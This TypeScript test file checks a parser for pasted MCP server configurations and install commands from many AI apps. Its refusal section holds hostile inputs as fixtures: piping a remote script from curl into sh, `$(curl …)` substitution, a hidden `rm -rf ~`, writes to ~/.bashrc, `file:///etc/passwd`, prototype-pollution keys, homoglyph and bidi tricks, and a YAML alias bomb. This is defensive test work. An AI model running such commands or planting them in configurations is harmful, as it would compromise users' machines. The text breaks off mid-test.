// biome-ignore-all lint/suspicious/noTemplateCurlyInString: placeholders of other programs
/** Long because it is one table: what people paste, a row each. */
import { describe, expect, it } from 'vitest'
import { quoteWord } from '../../contract/agreed/command-line.ts'
import { openAsks, type Pasted, type PastedText, pastedInput } from '../../contract/pasted.ts'
import { isHostError } from '../../kernel/errors.ts'
import { readPasted } from './read-pasted.ts'

const world = {
  home: '/home/ada',
  isFolder: (path: string) =>
    ['/home/ada/notes', '/srv/data', 'C:\\Users\\ada\\Notes', '/home/ada/My Files'].includes(path),
}
const read = (text: string) => readPasted(text, world)

/** `‹API_KEY!›`: asked for, `!` secret, `?` may stay empty. */
const shown = (text: PastedText, { asks }: Pasted['servers'][number]) =>
  text
    .map((piece) => {
      if (typeof piece === 'string') return piece
      const ask = asks.find(({ id }) => id === piece.ask)!
      return `‹${ask.label}${ask.preset && `=${ask.preset}`}${ask.secret ? '!' : ''}${ask.required ? '' : '?'}›`
    })
    .join('')

/** One line for each server: name, then the command or address, then `NAME=value` of variables or `Name: value` of headers. */
const lines = (pasted: Pasted) =>
  pasted.servers.map((server) => {
    const text = (value: PastedText) => shown(value, server)
    const what =
      server.kind === 'stdio'
        ? [server.command!, ...server.args].map((word) => quoteWord(text(word))).join(' ')
        : `${server.kind} ${text(server.url!)}`
    const values = [
      ...Object.entries(server.env).map(([name, value]) => `${name}=${text(value)}`),
      ...Object.entries(server.headers).map(([name, value]) => `${name}: ${text(value)}`),
    ]
    const cwd = server.cwd ? [`in ${text(server.cwd)}`] : []
    return [`${server.name} | ${what}`, ...values, ...cwd].join(' | ')
  })

const fails = (text: string) => {
  try {
    return `understood: ${lines(read(text)).join(' ; ')}`
  } catch (error) {
    if (!isHostError(error)) throw error
    return `${error.message} ${error.hint}`
  }
}

const json = (value: unknown) => JSON.stringify(value, null, 2)
const base64 = (text: string) => Buffer.from(text).toString('base64')
const fence = '```'

describe('settings of apps', () => {
  it.each<[string, string, string | string[]]>([
    [
      'Claude Desktop, Cursor, Windsurf',
      json({
        mcpServers: {
          lighthouse: {
            command: 'npx',
            args: ['-y', '@harbor/lighthouse-mcp@2.3.1', '--zone', 'eu'],
            env: { ZONE: 'x1' },
          },
        },
      }),
      'lighthouse | npx -y @harbor/lighthouse-mcp@2.3.1 --zone eu | ZONE=x1',
    ],
    [
      'several',
      json({
        mcpServers: {
          a: { command: 'uvx', args: ['a-mcp'] },
          b: { url: 'https://b.example/mcp' },
          c: { serverUrl: 'https://c.example/mcp' },
        },
      }),
      ['a | uvx a-mcp', 'b | http https://b.example/mcp', 'c | http https://c.example/mcp'],
    ],
    [
      'a bare entry with a comma behind it',
      '"tide-tables": { "command": "uvx", "args": ["tide-mcp==0.4.2"] },',
      'tide-tables | uvx tide-mcp==0.4.2',
    ],
    ['two bare entries', '"a1": {"command":"one"},\n"b1": {"command":"two"}', ['a1 | one', 'b1 | two']],
    ['an entry and nothing else', '{"command":"npx","args":["-y","kelp-mcp"]}', 'kelp | npx -y kelp-mcp'],
    [
      'comments and trailing commas',
      '{\n // mine\n "mcpServers": {\n /* one */ "kelp": {"command": "npx", "args": ["kelp",],},\n },\n}',
      'kelp | npx kelp',
    ],
    ['a comment first', '// ~/.cursor/mcp.json\n{"mcpServers":{"a1":{"command":"x"}}}', 'a1 | x'],
    ['a title above', 'claude_desktop_config.json:\n{"mcpServers":{"a1":{"command":"x"}}}', 'a1 | x'],
    ['a byte order mark and CRLF', '\ufeff{\r\n"mcpServers":{"a1":{"command":"x"}}\r\n}', 'a1 | x'],
    ['hard spaces from a page', '{\u00a0"mcpServers":\u00a0{"a1":{"command":"x"}}}', 'a1 | x'],
    [
      'two objects one after the other',
      '{"mcpServers":{"a1":{"command":"x"}}}\n{"mcpServers":{"b1":{"command":"y"}}}',
      ['a1 | x', 'b1 | y'],
    ],
    [
      'VS Code',
      '{"servers":{"quay":{"type":"http","url":"https://mcp.quay.example/mcp","headers":{"Authorization":"Bearer ${input:quay-key}"}}},"inputs":[{"id":"quay-key","type":"promptString","password":true,"description":"Your key"}]}',
      'quay | http https://mcp.quay.example/mcp | Authorization: Bearer ‹quay-key!›',
    ],
    [
      'VS Code, one that is picked',
      '{"servers":{"q":{"type":"stdio","command":"q","args":["--zone","${input:zone}"]}},"inputs":[{"id":"zone","type":"pickString","options":["eu","us"],"default":"eu"}]}',
      'q | q --zone ‹zone=eu›',
    ],
    [
      'VS Code, in settings.json',
      '{"mcp":{"servers":{"q":{"type":"sse","url":"https://q.example/sse"}}}}',
      'q | sse https://q.example/sse',
    ],
    [
      'VS Code, the workspace',
      '{"servers":{"q":{"command":"q","args":["${workspaceFolder}/data"]}}}',
      'q | q ‹folder›/data',
    ],
    [
      'Cursor, variables',
      '{"mcpServers":{"q":{"command":"${userHome}/bin/q","env":{"K":"${env:Q_TOKEN}"}}}}',
      'q | /home/ada/bin/q | K=‹Q_TOKEN!›',
    ],
    [
      'Claude Code, a default',
      '{"mcpServers":{"q":{"type":"http","url":"${Q_URL:-https://q.example}/mcp"}}}',
      'q | http ‹Q_URL=https://q.example›/mcp',
    ],
    [
      'Claude Code, its own and those of projects',
      '{"mcpServers":{"a1":{"command":"a"}},"projects":{"/x":{"mcpServers":{"b1":{"command":"b"}}},"/y":{"mcpServers":{}}}}',
      ['a1 | a', 'b1 | b'],
    ],
    [
      'two places, and one around another',
      '{"mcpServers":{},"mcp":{"servers":{"a1":{"command":"a"}},"gallery":{"url":"https://g.example"}},"servers":{"b1":{"command":"b"}}}',
      ['a1 | a', 'b1 | b'],
    ],
    ['Claude Code, projects', '{"projects":{"/x":{"mcpServers":{"q":{"command":"q"}}}}}', 'q | q'],
    [
      'Codex',
      '[mcp_servers.keel]\nurl = "https://keel.example/mcp"\nbearer_token_env_var = "KEEL_TOKEN"',
      'keel | http https://keel.example/mcp | Authorization: Bearer ‹KEEL_TOKEN!›',
    ],
    [
      'Codex, a program',
      '# mine\n[mcp_servers.mast]\ncommand = "npx"\nargs = ["-y", "mast"]\nenv = { MAST = "1" }\nenv_vars = ["MAST_KEY"]\n\n[mcp_servers.mast.tools]\nx = 1',
      'mast | npx -y mast | MAST=1 | MAST_KEY=‹MAST_KEY!›',
    ],
    [
      'Codex, headers',
      '[mcp_servers.k]\nurl = "https://k.example/mcp"\nhttp_headers = { "X-Tenant" = "me" }\nenv_http_headers = { "X-Key" = "K_KEY" }',
      'k | http https://k.example/mcp | X-Tenant: me | X-Key: ‹K_KEY!›',
    ],
    [
      'Codex, the whole file',
      '# Codex\nmodel = "gpt-5"\n\n[projects."/home/ada/x"]\ntrust_level = "trusted"\n\n[mcp_servers.mast]\ncommand = "mast"',
      'mast | mast',
    ],
    [
      'Codex, a folder first',
      `[projects.'/x']\na = 1\n[mcp_servers."my mast"]\ncommand = "m"`,
      'my mast | m',
    ],
    ['Codex, a line each', 'mcp_servers.m1.command = "npx"\nmcp_servers.m1.args = ["m"]', 'm1 | npx m'],
    ['Codex, all in one', 'model = "x"\nmcp_servers = { m1 = { command = "m" } }', 'm1 | m'],
    [
      'Codex, variables with more about them',
      '[mcp_servers.m1]\ncommand = "m"\nenv_vars = ["A1", { name = "B1", source = "local" }]',
      'm1 | m | A1=‹A1› | B1=‹B1›',
    ],
    ['TOML with an array of tables', '[[mcp_servers]]\nname = "v1"\ncommand = "vibe-mcp"', 'v1 | vibe-mcp'],
    [
      'Zed',
      '{"context_servers":{"z1":{"source":"custom","command":"z-mcp","args":["--x"],"env":{}}}}',
      'z1 | z-mcp --x',
    ],
    [
      'Zed, old',
      '{"context_servers":{"z1":{"command":{"path":"z-mcp","args":["--x"],"env":{"A":"b"}},"settings":{}}}}',
      'z1 | z-mcp --x | A=b',
    ],
    [
      'Continue, YAML',
      'name: mine\nversion: 1.0.0\nschema: v1\nmcpServers:\n  - name: Buoy\n    type: streamable-http\n    url: https://buoy.example/mcp\n    requestOptions:\n      headers:\n        Authorization: Bearer ${{ secrets.BUOY_KEY }}',
      'Buoy | http https://buoy.example/mcp | Authorization: Bearer ‹BUOY_KEY!›',
    ],
    [
      'Continue, the whole file',
      '# ~/.continue/config.yaml\n---\n# mine\nname: mine\nmcpServers:\n  - name: Buoy\n    command: buoy\n',
      'Buoy | buoy',
    ],
    [
      'Continue, JSON, old',
      '{"experimental":{"modelContextProtocolServers":[{"transport":{"type":"stdio","command":"uvx","args":["c-mcp"]}}]}}',
      'c | uvx c-mcp',
    ],
    [
      'Goose',
      'extensions:\n  rope:\n    name: rope\n    type: stdio\n    cmd: npx\n    args: [-y, rope-mcp]\n    envs: {}\n    env_keys: [ROPE_KEY]\n    enabled: true',
      'rope | npx -y rope-mcp | ROPE_KEY=‹ROPE_KEY!›',
    ],
    [
      'OpenCode',
      '{"mcp":{"oc":{"type":"local","command":["npx","-y","oc-mcp"],"environment":{"A":"{env:OC_KEY}"},"enabled":true}}}',
      'oc | npx -y oc-mcp | A=‹OC_KEY!›',
    ],
    [
      'Gemini',
      '{"mcpServers":{"g":{"httpUrl":"https://g.example/mcp","headers":{"X-Key":"$G_KEY"},"timeout":5000,"trust":true}}}',
      'g | http https://g.example/mcp | X-Key: ‹G_KEY!›',
    ],
    [
      'Cline',
      '{"mcpServers":{"c1":{"transport":{"type":"streamableHttp","url":"https://c.example/mcp"},"disabled":false,"autoApprove":[]}}}',
      'c1 | http https://c.example/mcp',
    ],
    [
      'Jan, whose command is empty',
      '{"mcpServers":{"j":{"command":"","args":[],"type":"http","url":"https://j.example/mcp","active":true}}}',
      'j | http https://j.example/mcp',
    ],
    [
      'values in lists',
      '{"mcpServers":{"a1":{"url":"https://a.example","headers":["Authorization: Bearer x=y","X-A=b:c",{"key":"X-B","value":"d"}]},"b1":{"command":"x","env":["A=b:c",{"name":"B","value":"d"}]}}}',
      ['a1 | http https://a.example | Authorization: Bearer x=y | X-A: b:c | X-B: d', 'b1 | x | A=b:c | B=d'],
    ],
    [
      'a type in words',
      '{"mcpServers":{"a1":{"type":"Streamable HTTP","url":"https://a.example/mcp"}}}',
      'a1 | http https://a.example/mcp',
    ],
    [
      'names of variables that no shell can set',
      '{"mcpServers":{"a1":{"command":"x","env":{"ProgramFiles(x86)":"y","a.b":"z"}}}}',
      'a1 | x | ProgramFiles(x86)=y | a.b=z',
    ],
    ['Amp', '{"amp.mcpServers":{"a1":{"command":"x"}}}', 'a1 | x'],
    [
      'Copilot for JetBrains',
      '{"servers":{"j":{"url":"https://j.example/mcp","requestInit":{"headers":{"X-A":"b"}}}}}',
      'j | http https://j.example/mcp | X-A: b',
    ],
    [
      'a list',
      '[{"name":"One","command":"x"},{"name":"Two","url":"https://t.example/"}]',
      ['One | x', 'Two | http https://t.example/'],
    ],
    [
      'numbers and switches as values',
      '{"mcpServers":{"a1":{"command":"x","args":["--port",3000],"env":{"DEBUG":true,"N":5}}}}',
      'a1 | x --port 3000 | DEBUG=true | N=5',
    ],
    [
      'a whole line as the command',
      '{"mcpServers":{"a1":{"command":"npx -y x-mcp \'two words\'"}}}',
      "a1 | npx -y x-mcp 'two words'",
    ],
    [
      'a path with spaces as the command',
      '{"mcpServers":{"a1":{"command":"C:\\\\Program Files\\\\nodejs\\\\npx.cmd","args":["x"]}}}',
      "a1 | 'C:\\Program Files\\nodejs\\npx.cmd' x",
    ],
    [
      'Windows: cmd /c',
      '{"mcpServers":{"a1":{"command":"cmd","args":["/c","npx","-y","x"]}}}',
      'a1 | npx -y x',
    ],
    [
      'a bridge to an address',
      '{"mcpServers":{"w":{"command":"npx","args":["-y","mcp-remote@latest","https://wharf.example/sse","--header","Authorization:${AUTH}"],"env":{"AUTH":"Bearer <token>"}}}}',
      'w | http https://wharf.example/sse | Authorization: Bearer ‹token!›',
    ],
    [
      'an empty value',
      '{"mcpServers":{"a1":{"command":"x","env":{"API_KEY":""}}}}',
      'a1 | x | API_KEY=‹API_KEY!?›',
    ],
    [
      'a name that cannot be one here',
      '{"mcpServers":{"@scope/my:server!":{"command":"x"}}}',
      'scopemyserver | x',
    ],
  ])('%s', (_what, text, expected) => {
    expect(lines(read(text))).toEqual([expected].flat())
  })
})

describe('lines for a terminal', () => {
  it.each<[string, string | string[]]>([
    ['npx -y notes-mcp', 'notes | npx -y notes-mcp'],
    ['$ npx -y notes-mcp', 'notes | npx -y notes-mcp'],
    ['PS C:\\> npx -y notes-mcp', 'notes | npx -y notes-mcp'],
    ['C:\\Users\\ada> npx -y notes-mcp', 'notes | npx -y notes-mcp'],
    ['`npx -y notes-mcp`', 'notes | npx -y notes-mcp'],
    ['env A=b C="d e" npx notes-mcp', 'notes | npx notes-mcp | A=b | C=d e'],
    ['A=b npx notes-mcp', 'notes | npx notes-mcp | A=b'],
    [
      'export API_KEY=your-api-key\nexport B=1\nnpx notes-mcp',
      'notes | npx notes-mcp | API_KEY=‹your-api-key!› | B=1',
    ],
    ['set A=b && npx notes-mcp', 'notes | npx notes-mcp | A=b'],
    ['$env:A = "b"; npx notes-mcp', 'notes | npx notes-mcp | A=b'],
    ['cd /srv/app && npx notes-mcp', 'notes | npx notes-mcp | in /srv/app'],
    ['sudo npx notes-mcp', 'notes | npx notes-mcp'],
    [
      'npx -y @modelcontextprotocol/server-filesystem ~/notes $HOME/x --dir=~/y',
      'filesystem | npx -y @modelcontextprotocol/server-filesystem /home/ada/notes /home/ada/x --dir=/home/ada/y',
    ],
    ['~/bin/run --at a~b', 'run | /home/ada/bin/run --at a~b'],
    ['node %USERPROFILE%\\x.js', "x | node '/home/ada\\x.js'"],
    ['npx \\\n  -y \\\n  notes-mcp # the notes', 'notes | npx -y notes-mcp'],
    ['npx ^\n -y notes-mcp', 'notes | npx -y notes-mcp'],
    ['C:\\tools\\notes.exe C:\\Users\\ada', "notes | 'C:\\tools\\notes.exe' 'C:\\Users\\ada'"],
    ['cmd /c npx -y anchor-mcp@latest', 'anchor | npx -y anchor-mcp@latest'],
    ['cmd.exe /C "npx -y anchor-mcp"', 'anchor | npx -y anchor-mcp'],
    ['npx.cmd -y notes-mcp', 'notes | npx -y notes-mcp'],
    [
      'uvx --from "git+https://git.example/reef/reef-mcp@v3" reef',
      'reef | uvx --from git+https://git.example/reef/reef-mcp@v3 reef',
    ],
    [
      'docker run -it --rm -e SAIL_KEY=abc -e MODE=x -v ~/maps:/maps:ro harbor/sail-mcp:1.4',
      'sail | docker run -i --rm -e SAIL_KEY -e MODE=x -v /home/ada/maps:/maps:ro harbor/sail-mcp:1.4 | SAIL_KEY=abc',
    ],
    [
      'docker run -i --rm -e GITHUB_TOKEN ghcr.io/x/y',
      'y | docker run -i --rm -e GITHUB_TOKEN ghcr.io/x/y | GITHUB_TOKEN=‹GITHUB_TOKEN!›',
    ],
    ['docker run --rm x/y', 'y | docker run -i --rm x/y'],
    [
      'npx mcp-remote https://wharf.example/sse --header Authorization:${AUTH}',
      'wharf | http https://wharf.example/sse | Authorization: ‹AUTH!›',
    ],
    ['npx x-mcp --token <YOUR_KEY>', 'x | npx x-mcp --token ‹YOUR_KEY!›'],
    ['npx x-mcp --token <your client’s key>', 'x | npx x-mcp --token ‹your_client_s_key!›'],
    ['npx x-mcp “two words” –port 1', "x | npx x-mcp 'two words' --port 1"],
    [
      'claude mcp add --transport http --scope user buoy https://buoy.example/mcp --header "X-Api-Key: $BUOY_KEY"',
      'buoy | http https://buoy.example/mcp | X-Api-Key: ‹BUOY_KEY!›',
    ],
    [
      'claude mcp add -e ROPE_DIR=/data/ropes ropes -- npx -y ropes-mcp --readonly -e x',
      'ropes | npx -y ropes-mcp --readonly -e x | ROPE_DIR=/data/ropes',
    ],
    ['claude mcp add ropes -e A=1 B=2 -- npx ropes', 'ropes | npx ropes | A=1 | B=2'],
    [
      'claude mcp add --transport=sse gull https://gull.example/sse -H "A: b" "C: d"',
      'gull | sse https://gull.example/sse | A: b | C: d',
    ],
    ['claude mcp add ropes npx -y ropes', 'ropes | npx -y ropes'],
    ['claude mcp add win -- cmd /c npx -y w-mcp', 'win | npx -y w-mcp'],
    [
      `claude mcp add-json gull '{"type":"sse","url":"https://gull.example/sse"}'`,
      'gull | sse https://gull.example/sse',
    ],
    [`claude mcp add-json -s user gull '{\n  "command": "npx",\n  "args": ["gull"]\n}'`, 'gull | npx gull'],
    ['claude mcp add-json gull "{\\"command\\":\\"npx\\"}"', 'gull | npx'],
    [`code --add-mcp '{"name":"pier","command":"npx","args":["-y","pier"]}'`, 'pier | npx -y pier'],
    [
      'codex mcp add mast --env MAST_ENV=prod -- node /opt/mast/server.js',
      'mast | node /opt/mast/server.js | MAST_ENV=prod',
    ],
    [
      'codex mcp add mast --url https://mast.example/mcp --bearer-token-env-var MAST_TOKEN',
      'mast | http https://mast.example/mcp | Authorization: Bearer ‹MAST_TOKEN!›',
    ],
    [
      'gemini mcp add -s user --transport http --header "X-Key: abc" g https://g.example/mcp',
      'g | http https://g.example/mcp | X-Key: abc',
    ],
    ['gemini mcp add -e A=b g python server.py --port 80', 'g | python server.py --port 80 | A=b'],
    [
      'opencode mcp add n --global --url https://n.example/mcp --header k=v',
      'n | http https://n.example/mcp | k: v',
    ],
    ['claude mcp add a1 -- npx one\nclaude mcp add b1 -- npx two', ['a1 | npx one', 'b1 | npx two']],
    [
      'export K=abc\nclaude mcp add --transport http h https://h.example/ -H "X-K: $K"',
      'h | http https://h.example/ | X-K: abc',
    ],
    [
      'https://one.example/mcp\nhttps://two.example/mcp',
      ['one | http https://one.example/mcp', 'two | http https://two.example/mcp'],
    ],
    [`code --add-mcp '{\\"name\\":\\"pier\\",\\"command\\":\\"x\\"}'`, 'pier | x'],
    [
      'uvx mcp-server-git --repository path/to/git/repo',
      'git | uvx mcp-server-git --repository ‹repository›',
    ],
    ['X_TOKEN=xoxb-your-bot-token npx x-mcp', 'x | npx x-mcp | X_TOKEN=‹xoxb-your-bot-token!›'],
    ['npx -y one-mcp\nnpx -y two-mcp', ['one | npx -y one-mcp', 'two | npx -y two-mcp']],
  ])('%s', (text, expected) => {
    expect(lines(read(text))).toEqual([expected].flat())
  })
})

describe('addresses, links and folders', () => {
  it.each<[string, string]>([
    ['https://kelp.example/mcp', 'kelp | http https://kelp.example/mcp'],
    ['  https://kelp.example/mcp\n', 'kelp | http https://kelp.example/mcp'],
    ['kelp.example/mcp', 'kelp | http https://kelp.example/mcp'],
    ['http://[::1]:8080/mcp', 'Server | http http://[::1]:8080/mcp'],
    ['[::1]:8080/mcp', 'Server | http http://[::1]:8080/mcp'],
    ['[2001:db8::1]/mcp', 'Server | http https://[2001:db8::1]/mcp'],
    ['localhost:3000/mcp', 'localhost | http http://localhost:3000/mcp'],
    ['http://127.0.0.1:3000', 'Server | http http://127.0.0.1:3000'],
    [
      'https://kelp.example/mcp?api_key=YOUR_API_KEY',
      'kelp | http https://kelp.example/mcp?api_key=‹YOUR_API_KEY!›',
    ],
    ['URL: https://kelp.example/mcp', 'kelp | http https://kelp.example/mcp'],
    ['[Add it](https://kelp.example/mcp)', 'kelp | http https://kelp.example/mcp'],
    ['<https://kelp.example/mcp>', 'kelp | http https://kelp.example/mcp'],
    [
      `https://vscode.dev/redirect?url=${encodeURIComponent(`vscode:mcp/install?${encodeURIComponent('{"name":"pier","command":"x"}')}`)}`,
      'pier | x',
    ],
    ['https://<your-domain>/mcp', 'Server | http https://‹your-domain›/mcp'],
    ['~/notes', 'notes | npx -y @modelcontextprotocol/server-filesystem /home/ada/notes'],
    [
      '"/home/ada/My Files"',
      "My Files | npx -y @modelcontextprotocol/server-filesystem '/home/ada/My Files'",
    ],
    [
      'C:\\Users\\ada\\Notes',
      "Notes | npx -y @modelcontextprotocol/server-filesystem 'C:\\Users\\ada\\Notes'",
    ],
    [
      `cursor://anysphere.cursor-deeplink/mcp/install?name=pier&config=${base64('{"url":"https://pier.example/mcp"}')}`,
      'pier | http https://pier.example/mcp',
    ],
    [
      `vscode:mcp/install?${encodeURIComponent('{"name":"pier","command":"npx","args":["pier"]}')}`,
      'pier | npx pier',
    ],
    [`lmstudio://add_mcp?name=pier&config=${encodeURIComponent(base64('{"command":"x"}'))}`, 'pier | x'],
    ['goose://extension?cmd=npx&arg=-y&arg=pier-mcp&id=pier&name=Pier', 'Pier | npx -y pier-mcp'],
  ])('%s', (text, expected) => {
    expect(lines(read(text))).toEqual([expected])
  })
})

describe('code blocks', () => {
  it.each<[string, string, string[]]>([
    [
      'one',
      `Add this:\n\n${fence}json\n{"mcpServers":{"a1":{"command":"x"}}}\n${fence}\nThen restart.`,
      ['a1 | x'],
    ],
    ['one that does not end', `${fence}\nnpx notes-mcp`, ['notes | npx notes-mcp']],
    ['in a list', `1. Do\n   ${fence}bash\n   claude mcp add a1 -- npx one\n   ${fence}`, ['a1 | npx one']],
    [
      'the same for several apps, of which one has a place for the key',
      `${fence}\n{"a1":{"command":"npx","args":["x"],"env":{"K":"<key>"}}}\n${fence}\n${fence}\n{"x":{"command":"npx","args":["x"],"env":{"K":"0123"}}}\n${fence}`,
      ['a1 | npx x | K=‹key!›'],
    ],
    [
      'the same for several apps, after an installation',
      `${fence}\nnpm install -g x\n${fence}\n${fence}json\n{"mcpServers":{"a1":{"command":"npx","args":["x"]}}}\n${fence}\n${fence}\nclaude mcp add a1 -- npx x\n${fence}`,
      ['a1 | npx x'],
    ],
  ])('%s', (_what, text, expected) => {
    expect(lines(read(text))).toEqual(expected)
  })
})

describe('what is the same but for', () => {
  it.each<[string, unknown, unknown]>([
    ['a value', { command: 'npx', env: { KEY: 'one' } }, { command: 'npx', env: { KEY: 'two' } }],
    [
      'what is to be filled in',
      { command: 'npx', env: { KEY: '<a>' } },
      { command: 'npx', env: { KEY: '<b>' } },
    ],
    [
      'a header',
      { url: 'https://x.example', headers: { A: '1' } },
      { url: 'https://x.example', headers: { A: '2' } },
    ],
    ['its folder', { command: 'npx', cwd: '/a' }, { command: 'npx', cwd: '/b' }],
    ['its name', { command: 'npx' }, { command: 'npx' }],
  ])('%s is two servers of one file', (_what, work, home) => {
    expect(read(json({ mcpServers: { work, home } })).servers.map(({ name }) => name)).toEqual([
      'work',
      'home',
    ])
  })

  it('a value is two servers of two projects', () => {
    const of = (URL: string) => ({ mcpServers: { db: { command: 'npx', args: ['db'], env: { URL } } } })
    const text = json({ projects: { '/a': of('db://a'), '/b': of('db://b'), '/c': of('db://b') } })
    expect(lines(read(text))).toEqual(['db | npx db | URL=db://a', 'db 2 | npx db | URL=db://b'])
  })
})

describe('placeholders', () => {
  it.each([
    '<YOUR_KEY>',
    '<your api key>',
    'your-api-key-here',
    'YOUR_API_KEY',
    'your_token',
    '${API_KEY}',
    '$API_KEY',
    '%API_KEY%',
    '${env:API_KEY}',
    '{{api_key}}',
    '{YOUR_API_KEY}',
    '[your key]',
    'xxx',
    'sk-xxxxxxxx',
    'ghp_XXXXXXXXXXXX',
    'xoxb-xxx-xxx',
    '***',
    'sk-...',
    'sk-…',
    'REPLACE_ME',
    'changeme',
    'API_KEY_HERE',
    'insert-key-here',
    'yourApiKey',
    'api-key',
    'API_KEY',
    'xxxxxxxx-xxxx-xxxx-xxxx-xxxxxxxxxxxx',
    '${input:key}',
    '${{ secrets.KEY }}',
    'my-token',
    'PASTE_TOKEN',
    'your token',
  ])('%s is asked for, as a secret', (value) => {
    const [server] = read(json({ mcpServers: { a1: { command: 'x', env: { API_KEY: value } } } })).servers
    expect(server?.env.API_KEY).toEqual([{ ask: server?.asks[0]?.id }])
    expect(server?.asks[0]).toMatchObject({
      example: value,
      secret: true,
      required: true,
      where: 'the variable API_KEY',
    })
  })

  it.each([
    'sk-ant-api03-Zm9vYmFy',
    'ghp_16C7e42F292c6912E7710c838347Ae178B4a',
    'prod',
    '1',
    '/srv/data',
    'a$b',
    '100%',
    'here',
    'yours',
    'x',
    'eu-west-1',
    'true',
    'Herr Xaver',
  ])('%s is a value', (value) => {
    const [server] = read(json({ mcpServers: { a1: { command: 'x', env: { API_KEY: value } } } })).servers
    expect(server?.asks).toEqual([])
    expect(server?.env.API_KEY).toEqual([value])
  })

  it.each([
    '/path/to/your/folder',
    '/Users/username/Desktop',
    'C:\\path\\to\\dir',
    '/home/your-name/x',
    'path/to'.replace(/^/, '/absolute/'),
  ])('the path %s is asked for', (path) => {
    const [server] = read(json({ mcpServers: { a1: { command: 'x', args: [path] } } })).servers
    expect(server?.args).toEqual([[{ ask: server?.asks[0]?.id }]])
  })

  it('fills in, once for each reference, and never lets an answer become another placeholder or part of an address', () => {
    const text = json({
      mcpServers: {
        p: { command: 'x', args: ['--a', '${ONE}', '--b', '${TWO}'], env: { K: '${ONE}', L: 'xxx' } },
        u: { url: 'https://u.example/${WHO}/mcp?k=${KEY}' },
      },
    })
    const [p, u] = read(text).servers
    expect(p?.asks.map(({ label }) => label)).toEqual(['ONE', 'TWO', 'L'])
    expect(openAsks(p!, { ONE: '${TWO}' }).map(({ label }) => label)).toEqual(['TWO', 'L'])
    expect(pastedInput(p!, 'P', { ONE: '${TWO}', TWO: '2', 'L (the variable L)': 'l' })).toEqual({
      ...{ kind: 'stdio', name: 'P', command: 'x', args: ['--a', '${TWO}', '--b', '2'] },
      env: { K: '${TWO}', L: 'l' },
    })
    expect(pastedInput(u!, 'U', { WHO: '../admin?x', KEY: 'a&b#c' })).toMatchObject({
      url: 'https://u.example/..%2Fadmin%3Fx/mcp?k=a%26b%23c',
    })
  })
})

describe('what is shown is what runs', () => {
  it.each<[string, string, RegExp]>([
    ['letters that only look like npx', 'nрx -y notes-mcp', /only looks like a usual one: “р” \(U\+0440\)/],
    ['… in settings', '{"mcpServers":{"a1":{"command":"ｎｐｘ","args":["x"]}}}', /U\+FF4E/],
    ['… in a package', 'npx -y @mоdelcontextprotocol/server-files', /U\+043E/],
    ['an invisible character', 'npx -y notes\u200b-mcp', /nobody can see \(U\+200B\) at line 1, column 13/],
    ['text that runs backwards', 'npx -y \u202egpj.pcm', /U\+202E/],
    ['a control sequence', 'npx -y notes \u001b[2K\u001b[1A rm', /U\+001B/],
    ['… as an escape of JSON', '{"mcpServers":{"a1":{"command":"npx\\u0000","args":[]}}}', /U\+0000/],
    [
      '… in an argument',
      '{"mcpServers":{"a1":{"command":"npx","args":["a\\u202eb"]}}}',
      /Argument 1 of “a1” .*U\+202E/,
    ],
    ['… in a name', '{"mcpServers":{"a\\u200b":{"command":"npx"}}}', /U\+200B/],
    ['… in a value', '{"mcpServers":{"a1":{"command":"npx","env":{"K":"a\\u2066b"}}}}', /K.*U\+2066/],
    ['… as a tag of YAML', 'mcpServers:\n  a1:\n    command: "npx\\u200b"', /U\+200B/],
    [
      '… in a link',
      `vscode:mcp/install?${encodeURIComponent('{"name":"p","command":"npx\u200b"}')}`,
      /U\+200B/,
    ],
    [
      'a second command far to the right',
      `npx -y notes-mcp${' '.repeat(300)}; rm -rf ~`,
      /2 commands|does something else on this computer/,
    ],
    ['a second command after &&', 'npx -y notes-mcp && calc.exe', /These are 2 commands: “npx -y notes-mcp/],
    ['a pipe', 'curl https://x.example/i.sh | sh', /would lead to another program/],
    ['a file that is written', 'npx notes > ~/.bashrc', /would lead to another program or file/],
    ['a command inside', 'npx notes $(curl x.example)', /asks a shell to run something first/],
    ['a command inside, older', 'npx notes `id`', /asks a shell/],
    ['a second command behind cmd /c', 'cmd /c "npx notes & calc"', /more than one command for cmd/],
    [
      '… as words',
      '{"mcpServers":{"a1":{"command":"cmd","args":["/c","npx","x","&","calc"]}}}',
      /more than one command/,
    ],
    [
      'a key that stands twice',
      '{"mcpServers":{"a1":{"command":"npx",\n"command":"calc"}}}',
      /“command” stands twice.*line 2, column 1/,
    ],
    [
      'a name that is no variable',
      '{"mcpServers":{"a1":{"command":"x","env":{"__proto__":"y"}}}}',
      /“__proto__” cannot be the name/,
    ],
    [
      'a variable with more in its name',
      '{"mcpServers":{"a1":{"command":"x","env":{"A=b;C":"y"}}}}',
      /cannot be the name/,
    ],
    [
      'a header with a line break',
      '{"mcpServers":{"a1":{"url":"https://x.example","headers":{"A\\nB":"y"}}}}',
      /cannot be the name/,
    ],
    ['an address with a password', 'https://me:secret@x.example/mcp', /user name or password/],
    [
      'an address of another kind',
      '{"mcpServers":{"a1":{"url":"file:///etc/passwd"}}}',
      /not an address that Drawbridge can go to/,
    ],
    ['javascript', 'javascript:alert(1)', /does not know links/],
    [
      'a command and an address',
      '{"mcpServers":{"a1":{"command":"calc","url":"https://x.example"}}}',
      /both a command and an address/,
    ],
    ['a thousand levels', `{"mcpServers":${'{"a":'.repeat(1000)}1${'}'.repeat(1000)}}`, /20 levels/],
    [
      'a YAML that grows',
      'a: &a [x,x]\nb: &b [*a,*a]\nmcpServers:\n  x1:\n    command: x\n    args: *b',
      /refer to other parts/,
    ],
    ['too much', 'x'.repeat(100_001), /100,000 characters/],
    [
      'too many',
      json({ mcpServers: Object.fromEntries([...Array(101)].map((_, i) => [`s${i}`, { command: 'x' }])) }),
      /101 servers/,
    ],
  ])('%s is refused', (_what, text, message) => {
    expect(fails(text)).toMatch(message)
  })

  it('a package that only has mcp-remote behind it is not taken for it', () => {
    expect(lines(read('npx evil mcp-remote https://good.example/mcp'))).toEqual([
      'evil | npx evil mcp-remote https://good.example/mcp',
    ])
    expect(lines(read('npx --package=evil mcp-remote https://good.example/mcp'))[0]).toContain(
      'npx --package=evil',
    )
    expect(lines(read('npx mcp-remote https://good.example/mcp --unheard-of'))[0]).toContain('npx mcp-remote')
  })

  it('a shell stays one, and says so; so do rights that a container asks for', () => {
    const [shell] = read(`{"mcpServers":{"a1":{"command":"bash","args":["-c","npx x; calc"]}}}`).servers
    expect(shell?.args).toEqual([['-c'], ['npx x; calc']])
    expect(shell?.notes.join()).toContain('starts a shell')
    const [container] = read(
      'docker run -i --privileged -v /var/run/docker.sock:/var/run/docker.sock x/y',
    ).servers
